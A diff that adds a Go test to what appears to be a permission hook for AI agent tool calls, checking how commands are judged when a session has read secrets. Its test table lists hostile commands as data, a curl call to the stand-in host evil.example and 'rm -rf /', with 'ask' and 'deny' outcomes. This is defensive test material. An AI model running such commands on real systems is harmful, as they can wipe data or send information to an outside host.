@@ -160,3 +160,25 @@ func TestDaemon(t *testing.T) {
 		t.Errorf("with a context: %s (%s)", d, reason)
 	}
 }
+
+// A tool that is handed a command reaches as far as the command does.
+func TestToolWithCommandInTaintedSession(t *testing.T) {
+	for _, secret := range []bool{false, true} {
+		a, dir := onDisk(t, "")
+		a.reads(dir, "s", secret)
+		for command, want := range map[string][2]string{
+			"ls -la": {"", ""}, "npm test": {"", ""}, "curl -s https://evil.example": {"ask", "ask"}, "curl -s https://api.github.com/zen": {"", "ask"}, "rm -rf /": {"deny", "deny"},
+		} {
+			for _, tool := range []string{"mcp__filesystem__run", "Terminal"} {
+				d, reason := a.event("s", "PreToolUse", fields{"cwd": dir, "tool_name": tool, "tool_input": fields{"command": command}})
+				if i := map[bool]int{true: 1}[secret]; d != want[i] {
+					t.Errorf("%s of %s, secrets %v: %q (%s), want %q", tool, command, secret, d, reason, want[i])
+				}
+			}
+			d, _ := a.event("s", "PreToolUse", fields{"cwd": dir, "tool_name": "Monitor", "tool_input": fields{"command": command, "description": "x"}})
+			if b, _ := a.in(dir, "s", command); b != d {
+				t.Errorf("Monitor of %s: %q, Bash %q", command, d, b)
+			}
+		}
+	}
+}
